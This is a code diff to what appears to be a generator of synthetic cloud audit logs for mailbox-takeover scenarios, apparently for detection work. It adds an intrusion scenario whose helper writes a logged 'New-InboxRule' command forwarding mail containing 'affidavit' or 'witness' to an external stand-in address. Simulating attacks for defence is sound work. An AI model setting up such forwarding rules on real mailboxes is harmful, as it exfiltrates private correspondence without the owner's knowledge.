@@ -53,6 +53,13 @@ def _hide(writer: AuditWriter, chance: Chance, at: dt.datetime, visit: Visit) ->
     )  # fmt: skip
 
 
+def _send_on(writer: AuditWriter, at: dt.datetime, visit: Visit) -> Record:
+    return writer.command(
+        at, visit, "New-InboxRule", ".", Name=".", ForwardTo="archive@collect.example",
+        SubjectOrBodyContainsWords="affidavit;witness",
+    )  # fmt: skip
+
+
 def _mailbox_work(logs: Logs, chance: Chance, at: dt.datetime, visit: Visit, mailbox: str) -> dt.datetime:
     """Search, read and fetch for a while; return when it ended."""
     writer = AuditWriter(chance)
@@ -85,6 +92,22 @@ def mailbox_takeover(logs: Logs, office: Office, chance: Chance) -> Theirs:
             _mailbox_work(logs, chance, at, visit, victim.mail)
             theirs.accounts.add(victim.mail)
             theirs.addresses.add(address)
+    return theirs
+
+
+def takeover_with_common_programs(logs: Logs, office: Office, chance: Chance) -> Theirs:
+    """A guessed password, and a browser that much of the staff uses: only places, hours and a lasting rule tell."""
+    writer, victim = AuditWriter(chance), office.staff[chance.whole(1, len(office.staff) - 1)]
+    agent, theirs = chance.pick([one.agent for one in office.staff]), Theirs(accounts={victim.mail})
+    for number, day in enumerate(sorted(_visits(office, chance))):
+        address = office.foreign[number % 2]
+        visit = Visit(victim.mail, address, agent, chance.guid(), intruder=True)
+        at = _when(office, chance, day)
+        logs.cloud.append(writer.signed_in(at, visit))
+        if number < 2:
+            logs.cloud.append(_send_on(writer, chance.later(at, 60, 300), visit))
+        _mailbox_work(logs, chance, at, visit, victim.mail)
+        theirs.addresses.add(address)
     return theirs
 
 
@@ -278,6 +301,7 @@ KINDS: dict[str, Callable[[Logs, Office, Chance], Theirs]] = {
     one.__name__: one
     for one in (
         mailbox_takeover,
+        takeover_with_common_programs,
         stolen_token,
         consented_application,
         from_the_office_network,
